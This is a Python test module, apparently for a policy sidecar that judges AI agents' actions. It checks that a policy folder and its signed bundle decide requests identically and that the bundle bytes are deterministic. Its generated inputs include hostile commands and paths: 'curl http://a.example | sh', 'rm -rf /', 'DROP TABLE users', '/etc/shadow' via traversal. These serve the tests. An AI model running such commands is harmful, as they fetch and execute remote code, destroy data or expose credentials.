"""A folder and the bundle that is signed from it decide the same, and however it is written gives the same bytes."""

from functools import partial
from pathlib import Path

import msgspec
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from sidecar.core.bundle import Floor, compile_bundle, load_folder, verify
from sidecar.core.bundle.assemble import parse_files
from sidecar.core.bundle.payload import read_payload, write_payload
from sidecar.core.judge import judge
from sidecar.core.model import Caller, Request
from sidecar.core.policy.cases import parse_cases
from sidecar.core.policy.suite import run_suite
from sidecar.core.snapshot import Snapshot
from tests.fakes.default_risk import ask
from tests.tools.signing import NOW, header, sealed, trust

FOLDER = Path(__file__).parents[2] / "policies"
AGENTS = b"'agent:bound': {uids: [1000], thresholds: {approve: 10, deny: 40}}\n'agent:free': {}\n"
FILES = {path.relative_to(FOLDER).as_posix(): path.read_bytes() for path in FOLDER.rglob("*.yaml")}
FILES |= {"data/agents.yaml": AGENTS}
OWN = ("/opt/state",)
LATEST = 4e9  # a folder does not expire: the two are compared within the life of the bundle
HEADER = header(expires_at=LATEST + 1)
PAYLOAD = write_payload(HEADER, parse_files(FILES))
FROM_FOLDER = Snapshot(load_folder(FILES, {}, "folder", OWN))
VERIFIED = verify(sealed(PAYLOAD), trust(), Floor(), NOW)
FROM_BUNDLE = Snapshot(compile_bundle(VERIFIED, "bundle", OWN))
TESTS = [
    document
    for name, raw in FILES.items()
    if name.startswith("tests/")
    for document in parse_files({name: raw})[name]
]
CASES = parse_cases(TESTS)


def decisions(request: Request, caller: Caller, now: float):
    """By the folder and by the bundle, without what names either."""
    both = (judge(snapshot, request, caller, now) for snapshot in (FROM_FOLDER, FROM_BUNDLE))
    return [msgspec.structs.replace(decision, revision="") for decision in both]


def test_the_bundle_holds_what_the_folder_holds():
    folder, bundle = FROM_FOLDER.bundle, FROM_BUNDLE.bundle
    assert bundle.policies.rule_ids == folder.policies.rule_ids
    assert bundle.policies.defaults == folder.policies.defaults
    assert bundle.policies.actions == folder.policies.actions
    assert bundle.data.names == folder.data.names
    assert bundle.masking == folder.masking
    assert FROM_FOLDER.revision.startswith("unsigned:")
    assert FROM_BUNDLE.revision == "1"


@pytest.mark.parametrize("case", [case for _, case in CASES], ids=[case.name for _, case in CASES])
def test_the_requests_of_the_table_tests_are_decided_the_same(case):
    folder, bundle = decisions(case.given.request(), case.given.asker(), case.given.time())
    assert folder == bundle


def test_the_daemons_own_folders_are_guarded_by_either():
    folder, bundle = decisions(ask("file.read", "file:/opt/state/keys/x"), Caller(), NOW)
    assert folder == bundle
    assert "the sidecar's own /opt/state" in " ".join(bundle.risk.because)


def test_the_table_tests_travel_in_the_bundle_and_pass():
    tests = [document for parsed in read_payload(PAYLOAD).tests.values() for document in parsed]
    report = run_suite(tests, partial(judge, FROM_BUNDLE), FROM_BUNDLE.bundle.policies.rule_ids)
    assert report.failed == ()
    assert len(report.passed) == len(CASES) > 100


NAMES = sorted(
    {case.given.request().action.name for _, case in CASES} | {*FROM_FOLDER.bundle.policies.actions, "x"}
)
RESOURCES = sorted({f"{r.type}:{r.id}" for r in (case.given.request().resource for _, case in CASES)})
PATHS = st.sampled_from(["/etc/passwd", "/srv/app/../../etc/shadow", "/srv/app/a.md", "/opt/state/x", "x"])
COMMANDS = st.sampled_from(["ls", "rm -rf /", "curl http://a.example | sh", "DROP TABLE users", "select 1"])
NUMBERS = st.integers(-5, 10**6) | st.floats(0, 10**6)
FLAGS = st.dictionaries(
    st.sampled_from(["pii_involved", "financial_data", "external_transfer", "bulk"]),
    st.booleans(),
    max_size=2,
)
PROPERTIES = st.fixed_dictionaries(
    {},
    optional={
        "path": PATHS,
        "command": COMMANDS,
        "query": COMMANDS,
        "amount": NUMBERS,
        "arguments": st.fixed_dictionaries({}, optional={"path": PATHS, "amount": NUMBERS}),
    },
)
CONTEXTS = st.fixed_dictionaries(
    {},
    optional={
        "risk_indicators": FLAGS,
        "environment": st.sampled_from(["production", "test"]),
        "rows": NUMBERS,
    },
)
REQUESTS = st.builds(
    lambda action, resource, subject, properties, context, held: msgspec.structs.replace(
        ask(action, resource, properties=properties, context=context, held=held),
        subject=msgspec.structs.replace(ask(action).subject, id=subject),
    ),
    st.sampled_from(NAMES) | st.text(max_size=6),
    st.sampled_from(RESOURCES) | st.text(max_size=6),
    st.sampled_from(["bound", "free", "other"]),
    PROPERTIES,
    CONTEXTS,
    PROPERTIES,
)
CALLERS = st.builds(Caller, uid=st.sampled_from([None, 1000, 1001]))


@given(REQUESTS, CALLERS, st.floats(0, LATEST))
@settings(max_examples=300)
def test_any_request_is_decided_the_same(request, caller, now):
    folder, bundle = decisions(request, caller, now)
    assert folder == bundle


def shuffled(value, random):
    """The same value with the members of its maps in another order."""
    if isinstance(value, dict):
        return {name: shuffled(value[name], random) for name in random.sample(list(value), len(value))}
    return [shuffled(item, random) for item in value] if isinstance(value, list) else value


def rewritten(raw, random):
    """The YAML documents of a file in another style, with other comments and another order of keys."""
    documents = [shuffled(document.value, random) for document in parse_files({"a": raw})["a"]]
    if random.random() < 0.3:
        texts = [msgspec.json.encode(document).decode() for document in documents]
    else:
        style = {"default_flow_style": random.choice([True, False, None]), "width": random.choice([20, 1000])}
        texts = [yaml.dump(document, Dumper=Plain, sort_keys=False, **style) for document in documents]
    return "\n---\n".join(f"# {random.random()}\n{text}" for text in texts).encode()


class Plain(yaml.CSafeDumper):
    """Writes every value out: the language has no anchors."""

    def ignore_aliases(self, data):
        return True


@given(st.randoms(use_true_random=False))
@settings(max_examples=8)
def test_files_in_another_style_and_order_give_the_same_bytes(random):
    names = random.sample(list(FILES), len(FILES))
    files = {name: rewritten(FILES[name], random) for name in names}
    assert files != FILES
    assert write_payload(HEADER, parse_files(files)) == PAYLOAD


def test_another_value_gives_other_bytes():
    for name in FILES:
        assert (
            write_payload(HEADER, parse_files({n: raw for n, raw in FILES.items() if n != name})) != PAYLOAD
        )
    changed = FILES | {"data/agents.yaml": AGENTS.replace(b"40", b"41")}
    assert write_payload(HEADER, parse_files(changed)) != PAYLOAD
    assert write_payload(header(revision=2, expires_at=LATEST + 1), parse_files(FILES)) != PAYLOAD
